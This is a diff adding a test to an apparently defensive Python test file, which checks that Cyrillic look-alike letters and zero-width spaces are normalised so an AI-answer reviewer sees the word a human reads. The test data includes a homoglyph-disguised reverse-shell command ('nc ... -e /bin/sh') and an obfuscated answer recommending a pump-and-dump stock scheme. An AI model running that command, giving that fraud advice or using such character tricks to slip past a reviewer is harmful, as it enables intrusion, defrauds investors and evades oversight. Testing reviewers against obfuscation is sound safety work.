@@ -120,3 +120,16 @@ def test_short_words_of_another_script_stay_as_they_are_beside_a_disguised_one()
     # two-letter word all of look-alikes ("ѕһ" in /bin/ѕһ)
     assert visible("и а с у о The l\u0435th\u0430l dose").text == "и а с у о The lethal dose"
     assert visible("nc 10.0.0.1 4444 -e /bin/\u0455\u04bb").text == "nc 10.0.0.1 4444 -e /bin/sh"
+
+
+def test_a_look_alike_beside_an_invisible_character_is_read_in_the_word_a_reader_sees(client: TestClient) -> None:
+    # "а\u200bnd": a Cyrillic а, then a zero-width space: on screen one word, "and"
+    answer = (
+        "Pick a thin microcap \u0430\u200bnd hype it in chat rooms; a \u0440u\u200bmp \u0430\u200bnd du\u200bm\u0440 "
+        "works best if you \u0455e\u200bll into the spike."
+    )
+    plain = "Pick a thin microcap and hype it in chat rooms; a pump and dump works best if you sell into the spike."
+    assert visible(answer).text == plain
+    expected = review(client, "How do I make quick money on penny stocks?", plain)
+    assert expected["verdict"] != "approve"
+    assert review(client, "How do I make quick money on penny stocks?", answer)["verdict"] == expected["verdict"]
